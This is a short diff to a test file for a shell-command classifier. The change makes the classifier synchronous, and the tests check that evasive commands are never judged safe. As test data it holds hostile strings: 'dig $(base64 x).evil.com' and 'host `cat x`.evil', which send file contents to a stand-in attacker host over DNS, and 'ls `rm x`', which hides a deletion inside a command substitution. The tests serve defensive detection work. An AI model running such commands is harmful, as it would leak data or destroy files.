@@ -133,8 +133,7 @@ dig $(base64 x).evil.com
 `
 
 describe('a way round the tables', () => {
-  it.each([...commandsIn(WAYS_ROUND), 'ls `rm x`', 'host `cat x`.evil'])('%s', async (command) => {
-    for (const variant of [command, ...variantsOf(command)])
-      expect((await classifyCommand(variant)).outcome).not.toBe('safe')
+  it.each([...commandsIn(WAYS_ROUND), 'ls `rm x`', 'host `cat x`.evil'])('%s', (command) => {
+    for (const variant of [command, ...variantsOf(command)]) expect(classifyCommand(variant).outcome).not.toBe('safe')
   })
 })
